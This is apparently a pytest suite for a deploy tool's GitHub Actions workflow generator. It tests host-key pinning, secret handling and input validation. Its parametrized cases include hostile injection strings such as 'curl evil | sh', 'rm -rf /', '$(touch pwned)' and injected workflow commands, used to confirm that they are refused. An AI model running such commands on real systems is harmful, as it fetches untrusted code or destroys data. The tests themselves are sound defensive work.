"""CI integration: the generated GitHub Actions workflows (valid YAML with the expected
jobs, triggers, concurrency and inputs; their shell steps run for real with bash), the
`ci github` command, and the step summary and `::error` annotations written under a
simulated Actions environment (an injected environ mapping, a temporary summary file)."""

from __future__ import annotations

import io
import json
import os
import re
import stat
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import httpx
import paramiko
import pytest
import yaml

from deploy import ci, github, operations
from deploy.model import RELEASE_ID, Outcome
from deploy.operations import Options
from deploy.redact import MASK, Redactor
from deploy.report import JsonReporter, PlainReporter, RecordingReporter
from smoke.commands import run_smoke
from smoke.report import actions_error
from tests.conftest import git
from tests.unit.test_notify import CANARY, fake_world, ship

ROOT = Path(__file__).resolve().parents[2]

INVENTORY = """
hosts: [{name: web1, address: 10.0.0.5, root: /srv/shop}]
app: {name: shop, repo: ..}
process: {command: server.js, port: 3000}
health: {token_env: HEALTH_TOKEN}
secrets: {from_env: [DATABASE_URL, HEALTH_TOKEN]}
smoke: {packs: [../smoke/contract.yml]}
notify:
  webhooks:
    - {url_env: SLACK_WEBHOOK_URL, format: slack}
"""
PUBLIC = """
hosts: [{name: web1, address: 10.0.0.5, root: /srv/shop}]
app: {name: shop, repo: ..}
process: {command: server.js, port: 3000}
smoke: {packs: [../smoke/contract.yml], base_url: "https://shop.example.com"}
"""
PACK = """
version: 1
name: contract
checks:
  - name: items
    request: {path: /api/items, headers: {Authorization: "Bearer ${ENV:API_TOKEN}"}}
    expect: {status: 200}
"""


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """An app repository with inventories for prod and public, a pack and a pinned key."""
    root = tmp_path / "shop"
    (root / "inventories").mkdir(parents=True)
    (root / "smoke").mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "inventories" / "prod.yml").write_text(INVENTORY)
    (root / "inventories" / "public.yml").write_text(PUBLIC)
    (root / "smoke" / "contract.yml").write_text(PACK)
    key = paramiko.ECDSAKey.generate()
    (root / "inventories" / "known_hosts").write_text(
        f"10.0.0.5 {key.get_name()} {key.get_base64()}\n"
    )
    return root


CLI = (sys.executable, "-m", "deploy.cli")
PINNED = "releasegate @ git+https://github.com/acme/releasegate@v0.1.0"


def generate(repo: Path, **kw: Any) -> tuple[int, RecordingReporter]:
    rep = RecordingReporter()
    code = ci.run_github(
        Options(), reporter=rep, cwd=repo, **{"env": "prod", "install": PINNED, **kw}
    )
    return code, rep


def load(path: Path) -> dict[Any, Any]:
    doc = yaml.safe_load(path.read_text())
    assert isinstance(doc, dict)
    doc["on"] = doc.pop(True, doc.get("on"))  # YAML 1.1 reads the key `on` as true
    return doc


def step(job: dict[str, Any], name: str) -> dict[str, Any]:
    (found,) = [s for s in job["steps"] if s.get("name", "").startswith(name)]
    return found


def runs(doc: dict[str, Any]) -> list[str]:
    return [s["run"] for job in doc["jobs"].values() for s in job["steps"] if "run" in s]


# ---------------------------------------------------------------------------- workflows


def test_deploy_workflow_has_the_jobs_triggers_and_concurrency(repo: Path):
    code, rep = generate(repo)
    assert code == 0, rep.lines
    doc = load(repo / ".github/workflows/releasegate-prod.yml")
    assert doc["on"] == {"push": {"branches": ["main"]}, "workflow_dispatch": None}
    assert doc["permissions"] == {"contents": "read"}
    # the post-deploy smoke runs in the deploy job: the environment's reviewers are asked once
    assert set(doc["jobs"]) == {"branch", "deploy"}
    deploy = smoke = doc["jobs"]["deploy"]
    assert deploy["concurrency"] == {
        "group": "releasegate-deploy-prod",
        "cancel-in-progress": False,
    }
    assert deploy["needs"] == "branch" and "environment" not in doc["jobs"]["branch"]
    names = [s.get("name", "") for s in deploy["steps"]]
    assert names.index("Deploy prod") < names.index("Smoke pack against prod")

    run = step(deploy, "Deploy prod")
    assert 'releasegate --inventories "$RELEASEGATE_INVENTORIES" --json' in run["run"]
    assert 'deploy "$RELEASEGATE_ENV" --revision "$GITHUB_SHA"' in run["run"]
    # every variable the deploy reads comes from a secret of the same name, on this step only
    for name in ("HEALTH_TOKEN", "DATABASE_URL", "SLACK_WEBHOOK_URL", "API_TOKEN"):
        assert run["env"][name] == "${{ secrets." + name + " }}"
    assert "env" not in deploy and doc["env"]["RELEASEGATE_ENV"] == "prod"

    pin = step(deploy, "Check the pinned host key of prod")
    assert pin["env"] == {
        "KNOWN_HOSTS": "inventories/known_hosts",
        "PIN_NAME": "10.0.0.5",
        "PINNED_FOR": "prod",
    }
    agent = step(deploy, "Load the deploy key")
    assert agent["env"] == {
        "SSH_PRIVATE_KEY": "${{ secrets.RELEASEGATE_SSH_KEY }}",
        "KEY_SECRET": "RELEASEGATE_SSH_KEY",
    }
    assert "ssh-add -" in agent["run"]
    names = [s.get("name", "") for s in deploy["steps"]]
    assert names.index(pin["name"]) < names.index(agent["name"]) < names.index(run["name"])

    smoke_run = step(smoke, "Smoke pack against prod")
    assert 'smoke "$SMOKE_ENV" --junit reports/smoke.xml' in smoke_run["run"]
    assert smoke_run["env"] == {
        "SMOKE_ENV": "prod",
        "HEALTH_TOKEN": "${{ secrets.HEALTH_TOKEN }}",
        "API_TOKEN": "${{ secrets.API_TOKEN }}",
    }
    upload = step(smoke, "Upload the JUnit report")
    assert upload["uses"].startswith("actions/upload-artifact@")
    assert upload["if"] == "always()" and upload["with"]["path"] == "reports/smoke.xml"

    text = (repo / ".github/workflows/releasegate-prod.yml").read_text()
    assert "StrictHostKeyChecking" not in text and "ssh-keyscan" not in text
    assert "cancel-in-progress: true" not in text


def test_rollback_workflow_takes_an_optional_release_passed_only_through_env(repo: Path):
    assert generate(repo)[0] == 0
    doc = load(repo / ".github/workflows/releasegate-rollback-prod.yml")
    assert set(doc["on"]) == {"workflow_dispatch"}
    release = doc["on"]["workflow_dispatch"]["inputs"]["release"]
    assert release["required"] is False and release["type"] == "string"
    job = doc["jobs"]["rollback"]
    assert job["concurrency"] == {"group": "releasegate-rollback-prod", "cancel-in-progress": False}
    assert job["steps"][0]["name"] == "Check the release id"
    for script in runs(doc):
        assert "${{" not in script  # no expression is ever spliced into a script
    assert step(job, "Roll back prod")["env"]["RELEASE"] == "${{ inputs.release }}"
    assert "${{ inputs.release }}" in step(job, "Check the release id")["env"].values()


def test_smoke_job_against_a_base_url_needs_no_ssh(repo: Path):
    assert generate(repo, smoke_env="public", force=True)[0] == 0
    doc = load(repo / ".github/workflows/releasegate-prod.yml")
    names = [s.get("name", "") for s in doc["jobs"]["smoke"]["steps"]]
    assert not any("ssh-agent" in n for n in names)
    assert doc["jobs"]["smoke"]["environment"] == "public"
    assert step(doc["jobs"]["smoke"], "Smoke pack")["env"]["SMOKE_ENV"] == "public"


@pytest.mark.parametrize(
    ("ref_type", "ref", "branch", "ok"),
    [
        ("branch", "main", "main", True),
        ("branch", "feature/x", "main", False),
        ("tag", "main", "main", False),
        ("branch", "release/1.2", "release/*", True),
        ("branch", "main; touch pwned", "main", False),
    ],
)
def test_a_manual_run_deploys_only_the_configured_branch(
    repo: Path, ref_type: str, ref: str, branch: str, ok: bool
):
    assert generate(repo, branch=branch)[0] == 0
    doc = load(repo / ".github/workflows/releasegate-prod.yml")
    check = step(doc["jobs"]["branch"], "Refuse other branches")
    env = {**doc["env"], **check["env"], "GITHUB_REF_TYPE": ref_type, "GITHUB_REF_NAME": ref}
    res = bash(check["run"], env, repo)
    assert res.returncode == (0 if ok else 1), res.stdout + res.stderr
    assert not (repo / "pwned").exists()
    if not ok:
        assert res.stdout.startswith("::error title=wrong branch::")


def test_the_release_pattern_is_the_release_id_pattern():
    samples = [
        "20261122143055-1a2b3c4",
        "20261122143055-" + "a" * 40,
        "20261122143055-1a2b3c",
        "2026112214305-1a2b3c4",
        "20261122143055-1A2B3C4",
        "../../etc",
        "20261122143055-1a2b3c4\n",
        "",
    ]
    # bash's [[ =~ ]] is POSIX ERE: `$` is the end of the string; Python's `$` also matches
    # before a final newline, so it is spelled \Z to read the pattern as bash does
    bash_ere = ci.RELEASE_ID_ERE.removesuffix("$") + r"\Z"
    for sample in samples:
        assert bool(re.search(bash_ere, sample)) == bool(RELEASE_ID.match(sample)), sample


def bash(script: str, env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    """A step's script as the runner runs it with `shell: bash`."""
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        env={"PATH": os.environ["PATH"], **env},
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=30,
    )


@pytest.mark.parametrize(
    "value, ok",
    [
        ("", True),
        ("20261122143055-1a2b3c4", True),
        ("$(touch pwned)", False),
        ("20261122143055-1a2b3c4; touch pwned", False),
        ("20261122143055-1a2b3c4\n::error::injected", False),
        ("--help", False),
    ],
)
def test_the_release_input_is_validated_before_use(repo: Path, value: str, ok: bool):
    assert generate(repo)[0] == 0
    doc = load(repo / ".github/workflows/releasegate-rollback-prod.yml")
    check = step(doc["jobs"]["rollback"], "Check the release id")
    res = bash(check["run"], {**doc["env"], **check["env"], "RELEASE": value}, repo)
    assert res.returncode == (0 if ok else 2), res.stderr
    assert not (repo / "pwned").exists()
    if not ok:
        assert res.stdout.startswith("::error title=invalid release id::")
        assert "injected" not in res.stdout


def fake_releasegate(bin_dir: Path, code: int) -> Path:
    """A stand-in `releasegate` on PATH that records its arguments and prints an outcome."""
    bin_dir.mkdir(exist_ok=True)
    exe = bin_dir / "releasegate"
    exe.write_text(
        "#!/bin/sh\n"
        f'printf "%s\\n" "$@" > "{bin_dir}/argv"\n'
        f'echo \'{{"event": "outcome", "exit_code": {code}}}\'\n'
        f"exit {code}\n"
    )
    exe.chmod(exe.stat().st_mode | stat.S_IEXEC)
    return bin_dir


@pytest.mark.parametrize("release", ["", "20261122143055-1a2b3c4"])
def test_rollback_step_passes_to_only_when_given(repo: Path, tmp_path: Path, release: str):
    assert generate(repo)[0] == 0
    doc = load(repo / ".github/workflows/releasegate-rollback-prod.yml")
    roll = step(doc["jobs"]["rollback"], "Roll back prod")
    bin_dir = fake_releasegate(tmp_path / "bin", 0)
    env = {**doc["env"], "RELEASE": release, "RUNNER_TEMP": str(tmp_path)}
    env["PATH"] = f"{bin_dir}:{os.environ['PATH']}"
    res = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", roll["run"]],
        env=env,
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert res.returncode == 0, res.stderr
    argv = (bin_dir / "argv").read_text().split("\n")[:-1]
    to = ["--to", release] if release else []
    assert argv == [
        "--inventories",
        "inventories",
        "--json",
        "rollback",
        "prod",
        *to,
        "--lock-wait",
        "600",
    ]
    assert (tmp_path / "releasegate" / "rollback.jsonl").read_text().startswith('{"event"')


def test_deploy_step_keeps_releasegates_exit_code_through_tee(repo: Path, tmp_path: Path):
    assert generate(repo)[0] == 0
    doc = load(repo / ".github/workflows/releasegate-prod.yml")
    run = step(doc["jobs"]["deploy"], "Deploy prod")
    bin_dir = fake_releasegate(tmp_path / "bin", 3)
    env = {**doc["env"], "GITHUB_SHA": "a" * 40, "RUNNER_TEMP": str(tmp_path)}
    env["PATH"] = f"{bin_dir}:{os.environ['PATH']}"
    res = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", run["run"]],
        env=env,
        cwd=repo,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert res.returncode == 3  # a rolled-back deploy fails the job
    assert json.loads(res.stdout)["exit_code"] == 3


def test_agent_step_refuses_without_a_key(repo: Path, tmp_path: Path):
    assert generate(repo)[0] == 0
    doc = load(repo / ".github/workflows/releasegate-prod.yml")
    agent = step(doc["jobs"]["deploy"], "Load the deploy key")
    base = {**agent["env"], "RUNNER_TEMP": str(tmp_path), "GITHUB_ENV": str(tmp_path / "env")}
    res = bash(agent["run"], {**base, "SSH_PRIVATE_KEY": ""}, repo)
    assert res.returncode == 1 and "RELEASEGATE_SSH_KEY" in res.stdout


def pinned_line(name: str, key: paramiko.PKey | None = None) -> str:
    key = key or paramiko.ECDSAKey.generate()
    return f"{name} {key.get_name()} {key.get_base64()}"


def hashed(name: str) -> str:
    """`name` as `ssh-keygen -H` writes it: |1|salt|HMAC-SHA1(salt, name)."""
    import base64
    import hashlib
    import hmac

    salt = os.urandom(20)
    mac = hmac.new(salt, name.encode(), hashlib.sha1).digest()
    return f"|1|{base64.b64encode(salt).decode()}|{base64.b64encode(mac).decode()}"


@pytest.mark.parametrize(
    "port, known_hosts, pinned",
    [
        (22, None, False),  # no file at all
        (22, "# nothing pinned yet\n", False),
        (22, pinned_line("10.0.0.50") + "\n", False),  # another host's key: not this one
        (22, pinned_line("[10.0.0.5]:2222") + "\n", False),  # this address, another port
        (22, pinned_line("10.0.0.*") + "\n", False),  # a pattern (releasegate ignores those)
        (22, "@revoked " + pinned_line("10.0.0.5") + "\n", False),
        (22, "@cert-authority " + pinned_line("10.0.0.5") + "\n", False),
        (22, pinned_line("10.0.0.5") + "\n", True),
        (22, pinned_line("web1,10.0.0.5") + "\n", True),
        (22, pinned_line(hashed("10.0.0.5")) + "\n", True),
        (2222, pinned_line("10.0.0.5") + "\n", False),  # pinned for port 22 only
        (2222, pinned_line("[10.0.0.5]:2222") + "\n", True),
    ],
)
def test_the_workflow_stops_before_connecting_unless_this_host_is_pinned(
    repo: Path, tmp_path: Path, port: int, known_hosts: str | None, pinned: bool
):
    """No trust on first use in CI: the pin check runs before any SSH step and passes only
    when the committed known_hosts pins a key for this very host, as releasegate reads it."""
    inventory = repo / "inventories" / "prod.yml"
    inventory.write_text(
        inventory.read_text().replace("root: /srv/shop}", f"root: /srv/shop, port: {port}}}")
    )
    pins = repo / "inventories" / "known_hosts"
    pins.unlink()
    assert generate(repo)[0] == 0
    if known_hosts is not None:
        pins.write_text(known_hosts)
    for name in ("releasegate-prod.yml", "releasegate-rollback-prod.yml"):
        doc = load(repo / ".github/workflows" / name)
        job = doc["jobs"]["deploy" if "rollback" not in name else "rollback"]
        check = step(job, "Check the pinned host key of prod")
        res = bash(check["run"], check["env"], repo)
        assert (res.returncode == 0) is pinned, res.stdout + res.stderr
        if not pinned:
            want = "10.0.0.5" if port == 22 else "[10.0.0.5]:2222"
            assert f"pins no key for {want} (the host of prod)" in res.stdout
            assert "releasegate trust-host prod" in res.stdout
    # and releasegate itself (paramiko, RejectPolicy) accepts exactly these pins (paramiko
    # cannot read @-marker lines at all)
    if known_hosts is not None and not known_hosts.startswith("@"):
        keys = paramiko.HostKeys()
        keys.load(str(pins))
        want = "10.0.0.5" if port == 22 else "[10.0.0.5]:2222"
        assert (keys.lookup(want) is not None) is pinned


# ---------------------------------------------------------------------------- the command


def test_command_lists_the_secrets_to_add_and_refuses_to_overwrite(repo: Path):
    code, rep = generate(repo)
    assert code == 0
    (out,) = rep.outcomes
    assert out.op == "ci" and out.result == "ok"
    assert [line.split(":")[0] for line in out.evidence] == [
        "RELEASEGATE_SSH_KEY",
        "HEALTH_TOKEN",
        "API_TOKEN",
        "DATABASE_URL",
        "SLACK_WEBHOOK_URL",
    ]
    workflow = repo / ".github/workflows/releasegate-prod.yml"
    workflow.write_text("# the team's own edits\n")
    code, rep = generate(repo)
    assert code == 2 and rep.finished == ("ci", 2)
    assert "already exist" in rep.lines[0] and "--force" in rep.lines[0]
    assert workflow.read_text() == "# the team's own edits\n"  # nothing was written
    assert generate(repo, force=True)[0] == 0
    assert workflow.read_text().startswith("# Generated by `releasegate ci github`")


def test_command_warns_about_what_cannot_work_on_a_runner(repo: Path):
    (repo / "inventories" / "known_hosts").unlink()
    inv = repo / "inventories" / "prod.yml"
    inv.write_text(
        INVENTORY.replace("root: /srv/shop}", "root: /srv/shop, identity_file: ~/.ssh/id}")
        + "ssh: {accept_unknown_hosts: true}\n"
    )
    code, rep = generate(repo, directory=Path("ci-out"))
    assert code == 0
    warnings = "\n".join(line for line in rep.lines if line.startswith("warning:"))
    assert "pins no key for 10.0.0.5: run `releasegate trust-host prod`" in warnings
    assert "identity_file is set" in warnings
    assert "accept_unknown_hosts is true" in warnings
    assert "GitHub only runs workflows from" in warnings


@pytest.mark.parametrize(
    "kw, words",
    [
        ({"install": 'releasegate"; curl evil | sh; "'}, "--install"),
        ({"install": "--index-url=https://evil.example/simple"}, "--install"),
        ({"branch": "main; rm -rf /"}, "--branch"),
        ({"env": "nope"}, "no such inventory file"),
    ],
)
def test_bad_arguments_are_refused_and_nothing_is_written(repo: Path, kw, words):
    code, rep = generate(repo, **kw)
    assert code == 2 and words in rep.lines[0]
    assert not (repo / ".github").exists()


def test_inventories_outside_the_repository_are_refused(repo: Path, tmp_path: Path):
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "inventories").mkdir(parents=True)
    (elsewhere / "inventories" / "prod.yml").write_text(INVENTORY)
    rep = RecordingReporter()
    code = ci.run_github(
        Options(inventories=elsewhere / "inventories"), env="prod", reporter=rep, cwd=repo
    )
    assert code == 2 and "outside the repository" in rep.lines[0]


def test_both_doors_write_the_workflows(repo: Path):
    res = subprocess.run(
        [*CLI, "--plain", "ci", "github", "--env", "prod", "--install", PINNED],
        cwd=repo,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert res.returncode == 0, res.stdout + res.stderr
    assert "ci ok (exit 0)" in res.stdout
    assert (repo / ".github/workflows/releasegate-rollback-prod.yml").is_file()
    res = subprocess.run(
        [sys.executable, "-m", "invoke", "--search-root", str(ROOT), "--list"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert "ci.github" in res.stdout, res.stdout + res.stderr


# ---------------------------------------------------------------------------- under Actions


def actions_env(tmp_path: Path) -> dict[str, str]:
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_REPOSITORY": "acme/shop",
        "GITHUB_RUN_ID": "42",
    }


def test_make_reporter_wraps_only_under_actions(tmp_path: Path):
    redact = Redactor()
    plain = operations.make_reporter(Options(plain=True), redact, environ={})
    assert isinstance(plain, PlainReporter)
    wrapped = operations.make_reporter(
        Options(json=True), redact, env="prod", environ=actions_env(tmp_path)
    )
    assert isinstance(wrapped, github.ActionsReporter)
    assert isinstance(wrapped.inner, JsonReporter)
    assert github.run_url(actions_env(tmp_path)) == "https://github.com/acme/shop/actions/runs/42"
    assert github.run_url({}) is None


def test_a_rolled_back_deploy_writes_the_summary_and_annotations(
    tmp_path: Path, app_repo: Path, capsys: pytest.CaptureFixture[str]
):
    deps, remote, repo = fake_world(tmp_path, app_repo)
    rep = operations.make_reporter(
        Options(json=True), deps.redact, env="prod", environ=actions_env(tmp_path)
    )
    deps.reporter = rep
    good = ship(deps, remote, repo)
    bad = ship(deps, remote, repo, fault=f"wrong_contract {CANARY}")
    assert bad.exit_code == 3
    rep.finish("deploy", 3)
    out, err = capsys.readouterr()
    assert all(json.loads(line) for line in out.splitlines())  # stdout: JSON lines only
    assert json.loads(out.splitlines()[-1])["result"] == "rolled-back"

    title, check = err.splitlines()
    assert title.startswith(
        "::error title=releasegate deploy prod%3A rolled-back (exit 3)::"
        f"{bad.release} failed (smoke gate failed"
    )
    assert check.startswith(
        "::error title=failed check (releasegate deploy prod)::FAIL  items-list  GET /api/items"
    )
    summary = (tmp_path / "summary.md").read_text()
    assert summary.startswith("### ❌ releasegate deploy prod: rolled-back (exit 3)")
    assert f"| release | `{bad.release}` |" in summary
    assert f"| live | `{good.release}` |" in summary
    assert "| exit code | 3 — the new release failed a gate (rejected, or rolled back)" in summary
    assert "**Failed checks**\n\n- `FAIL  items-list  GET /api/items" in summary
    assert f"log: sampleapp: fault wrong_contract {MASK}" in summary
    assert CANARY not in out + err + summary


def test_an_error_ends_as_a_summary_and_one_annotation(tmp_path: Path):
    inner = RecordingReporter()
    summary = tmp_path / "summary.md"
    rep = github.ActionsReporter(
        inner, redact=Redactor([CANARY]), summary_path=summary, env="prod", err=io.StringIO()
    )
    rep.error(
        f"lock held by alice: 100% sure, token {CANARY}\nsecond line\r",
        ("::add-mask::x",),
        exit_code=4,
    )
    rep.finish("deploy", 4)
    assert inner.finished == ("deploy", 4)
    assert inner.lines[-1] == ": :add-mask::x"  # remote text cannot run a workflow command
    (line,) = rep._err.getvalue().splitlines()  # type: ignore[union-attr]
    assert line == (
        "::error title=releasegate deploy prod%3A error (exit 4)::lock held by alice: 100%25 "
        "sure, token ********%0Asecond line%0D"
    )
    text = summary.read_text()
    assert "| exit code | 4 — lock held by someone else; nothing changed |" in text
    assert CANARY not in text


def test_quiet_successes_write_no_summary(tmp_path: Path):
    summary = tmp_path / "summary.md"
    rep = github.ActionsReporter(
        RecordingReporter(), redact=Redactor(), summary_path=summary, err=io.StringIO()
    )
    rep.table("releases", ["id"], [["r1"]])
    rep.finish("releases", 0)
    assert not summary.exists()
    promoted = Outcome("deploy", "promoted", 0, "r1", "r1", "promoted r1 on web1")
    rep.outcome(promoted)
    rep.finish("deploy", 0)
    assert summary.read_text().startswith("### ✅ releasegate deploy: promoted (exit 0)")
    assert rep._err.getvalue() == ""  # type: ignore[union-attr]


def test_workflow_command_escaping():
    assert actions_error("a: b, c", "50%\r\nnext") == "::error title=a%3A b%2C c::50%25%0D%0Anext"


def test_a_standalone_smoke_run_annotates_failed_checks(tmp_path: Path):
    pack = tmp_path / "api.yml"
    pack.write_text(
        textwrap.dedent(
            """
            version: 1
            name: api
            checks:
              - {name: ok, request: {path: /ok}, expect: {status: 200}}
              - name: items
                request: {path: /items, headers: {X-Token: "${ENV:API_TOKEN}"}}
                expect: {status: 200}
            """
        )
    )

    def handle(request: httpx.Request) -> httpx.Response:
        if request.url.path == "/ok":
            return httpx.Response(200)
        return httpx.Response(500, text=f"echo {request.headers['X-Token']}")

    err = io.StringIO()
    environ = {**actions_env(tmp_path), "API_TOKEN": CANARY}
    code = run_smoke(
        base_url="http://app.test",
        packs=[pack],
        client=httpx.Client(transport=httpx.MockTransport(handle)),
        environ=environ,
        out=io.StringIO(),
        err=err,
        plain=True,
    )
    assert code == 1
    (line,) = err.getvalue().splitlines()
    assert line.startswith("::error title=smoke check failed%3A api/items::GET /items: ")
    summary = (tmp_path / "summary.md").read_text()
    assert summary.startswith("### ❌ smoke api: 1/2 passed, 1 failed")
    assert "| FAIL | items | `GET /items` |" in summary and "| PASS | ok | `GET /ok` |" in summary
    assert CANARY not in err.getvalue() + summary
    # outside Actions: no annotations, no summary
    err = io.StringIO()
    (tmp_path / "summary.md").unlink()
    run_smoke(
        base_url="http://app.test",
        packs=[pack],
        client=httpx.Client(transport=httpx.MockTransport(handle)),
        environ={"API_TOKEN": CANARY},
        out=io.StringIO(),
        err=err,
        plain=True,
    )
    assert err.getvalue() == "" and not (tmp_path / "summary.md").exists()
